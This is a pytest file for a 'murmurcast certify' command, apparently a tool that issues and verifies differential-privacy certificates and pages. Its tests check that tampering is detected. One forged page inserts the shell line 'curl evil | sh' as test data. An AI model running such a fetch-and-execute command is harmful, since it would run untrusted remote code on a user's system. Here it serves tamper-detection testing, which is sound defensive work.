"""`murmurcast certify` with pages, archived certificates and data."""

import json
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

import murmurcast as mc
from tests.certificates.ledger_edits import EDITS, make_plan, quadratic, with_ledger
from tests.cli.test_certify import Call, Done, complaint

EXPERIMENT = """
[network]
gains = [[0, 0.9, 0.4], [0.5, 0, 0.7], [0.8, 0.3, 0]]
[privacy]
epsilon = 3.0
unit = "record"
records_per_person = 2
[schedule]
epochs = 4
step = 0.1
[data]
name = "mine.csv"
[problem]
kind = "ridge"
"""


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run from an experiment file with data of its own, and runs without a certificate."""
    folder = tmp_path_factory.mktemp("archive")
    rows = [f"{place % 7},{place % 5},{0.1 * (place % 3)}" for place in range(40)]
    (folder / "data").mkdir()
    (folder / "data" / "mine.csv").write_text("\n".join(["first,second,target", *rows]) + "\n")
    (folder / "data" / "mine.toml").write_text(EXPERIMENT)
    problem, algorithm = mc.load(folder / "data" / "mine.toml").build(folder / "data")
    text = mc.load(folder / "data" / "mine.toml").as_toml()
    mc.run(algorithm, problem, options=mc.RunOptions(folder=folder / "ours", name="ours", experiment=text))
    plain = quadratic()
    for name, make in (("central", mc.central_dp), ("noiseless", mc.noiseless), ("python", mc.power_controlled)):
        mc.run(make(make_plan(plain)), plain, options=mc.RunOptions(folder=folder / name, name=name))
    return folder


@pytest.fixture
def folder(saved: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(saved, tmp_path / "copy"))


@pytest.fixture
def certify(folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Call:
    return Call(monkeypatch, capsys, folder)


def does_not_hold(done: Done) -> str:
    """All differences that are told."""
    assert done.code == 1, done
    first, *lines, hint = done.err.strip().split("\n")
    assert first.startswith("error: ")
    assert first.endswith(" does not hold:")
    assert hint.startswith("hint: do not rely on it")
    return "\n".join(lines)


def test_a_page_is_written_and_verified(certify: Call, folder: Path) -> None:
    done = certify("ours", "--page", "ours.html")
    assert done.code == 0
    assert "ours.html" in done.out.partition("Kept in")[2]
    page = (folder / "ours.html").read_text()
    assert "the records of one person with up to 2 records were used" in page
    for certificate in ("ours.html", "ours/certificate.json"):
        done = certify(certificate, "ours")
        assert done.code == 0, done
        assert done.out.startswith(f"Holds    {certificate}")
        assert "epsilon 3 at delta 1e-05" in done.out
    assert json.loads(certify("ours.html", "ours", "--json").out)["holds"] is True
    before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    certify("ours.html", "ours")
    assert before == {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_a_folder_may_be_renamed_and_lose_its_key(certify: Call, folder: Path) -> None:
    assert certify("ours", "--page", "ours.html").code == 0
    (folder / "ours").rename(folder / "moved")
    (folder / "moved" / "data.key").unlink()
    assert certify("ours.html", "moved").code == 0


@pytest.mark.slow
def test_any_change_of_page_certificate_or_folder_is_told(certify: Call, folder: Path) -> None:
    assert certify("ours", "--page", "ours.html").code == 0
    page = (folder / "ours.html").read_text()
    for old, new in (
        (">1e-05<", ">1e-09<"),
        ("epsilon, at most", "epsilon, at  most"),
        ("gradients are clipped", "gradients are not clipped"),
        ("murmurcast certify CERTIFICATE ours", "curl evil | sh"),
        ("</main>", "<p>And it never leaks.</p></main>"),
    ):
        assert old in page
        (folder / "forged.html").write_text(page.replace(old, new))
        assert does_not_hold(certify("forged.html", "ours")), old
    values = json.loads((folder / "ours" / "certificate.json").read_text())
    edits: tuple[dict[str, Any], ...] = (
        {"epsilon": [0.1, 0.1, 0.1]},
        {"assumptions": []},
        {"unit": "node"},
        {"delta": 1e-9},
    )
    for changed in edits:
        (folder / "forged.json").write_text(json.dumps(values | changed))
        assert does_not_hold(certify("forged.json", "ours")), changed
        assert json.loads(certify("forged.json", "ours", "--json").out)["differences"]
    run = mc.load_run("ours")
    run.published[0, 0] += 1
    run.save(folder / "ours")  # with all hashes made anew: only the certificate still knows
    assert certify("ours").code == 0
    assert "published.npz" in does_not_hold(certify("ours.html", "ours"))
    with_ledger(run, EDITS["noise halved"](run.ledger)).save(folder / "ours")
    assert "adversary is" in does_not_hold(certify("ours.html", "ours"))
    (folder / "ours" / "ledger.nc").write_bytes(b"words")
    assert "is not what the run wrote" in complaint(certify("ours.html", "ours"), 1)


@pytest.mark.slow
def test_two_runs_on_one_page(certify: Call, folder: Path) -> None:
    plain = quadratic()
    mc.run(
        mc.power_controlled(make_plan(plain)),
        plain,
        seeds=(7,),
        options=mc.RunOptions(folder=folder / "more", name="more"),
    )
    assert certify("python", "more", "--page", "both.html").code == 0
    assert certify("both.html", "python", "more").code == 0
    assert "runs[0].name" in does_not_hold(certify("both.html", "more", "python"))
    assert "is about 2 runs, and 1 folders are given" in complaint(certify("both.html", "more"), 2)


def test_what_cannot_be_written_is_refused_before_the_work(certify: Call, folder: Path) -> None:
    (folder / "ours" / "ledger.nc").unlink()  # the work would fail
    assert "is not the name of a page" in complaint(certify("ours", "--page", "page.docx"), 2)
    assert "does not exist" in complaint(certify("ours", "--page", "no/page.html"), 2)
    (folder / "mine.html").write_text("mine")
    assert "is not the page of a certificate" in complaint(certify("ours", "--page", "mine.html"), 2)
    certificate = folder / "central.json"
    assert certify("central", "--out", "central.json").code == 0
    assert certificate.exists()
    assert "to be verified" in complaint(certify("central.json", "central", "--page", "page.html"), 2)


def test_only_a_certificate_has_a_page(certify: Call, folder: Path) -> None:
    for name, why in (("central", "if the server is trusted"), ("noiseless", "nothing is promised")):
        done = certify(name, "--page", "page.html")
        assert f"not a certificate: {why}" in complaint(done, 2)
        assert not (folder / "page.html").exists()
    assert certify("python", "--page", "page.html").code == 0
    run = mc.load_run("python")
    with_ledger(run, EDITS["noise halved"](run.ledger)).save(folder / "python")
    done = certify("python", "--page", "page.html")
    complaint(done, 1)
    assert "withdrawn: page.html" in done.err
    assert not (folder / "page.html").exists()


@pytest.mark.slow
def test_the_data_can_be_shown_to_be_the_runs(certify: Call, folder: Path) -> None:
    assert certify("ours", "--data", "data").code == 0
    done = certify("ours/certificate.json", "ours", "--data", "data")
    assert done.code == 0
    assert "the data is what ours was committed to" in done.err
    text = (folder / "data" / "mine.csv").read_text()
    (folder / "data" / "mine.csv").write_text(text.replace("3,3,0.0", "3,4,0.0", 1))
    assert "is not what ours was committed to" in complaint(certify("ours", "--data", "data"), 1)
    (folder / "data" / "mine.csv").write_text(text)
    (folder / "ours" / "data.key").write_text("0" * 64)
    assert "is not what ours was committed to" in complaint(certify("ours", "--data", "data"), 1)
    (folder / "ours" / "data.key").unlink()
    assert "data.key is not there" in complaint(certify("ours", "--data", "data"), 2)
    assert "does not say which data" in complaint(certify("python", "--data", "data"), 2)


def test_code_that_a_folder_names_is_not_run(certify: Call, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An experiment may name a method of anybody's own; to read its data again, none is needed."""
    (folder / "trap.py").write_text("raise SystemExit('trapped')\n")
    monkeypatch.syspath_prepend(folder)
    run = mc.load_run("ours")
    named = run.experiment.replace('name = "power-controlled"', 'name = "trap:METHOD"\nlure = 1')
    assert named != run.experiment
    replace(run, experiment=named).save(folder / "ours")
    assert "the data is what ours was committed to" in certify("ours", "--data", "data").err
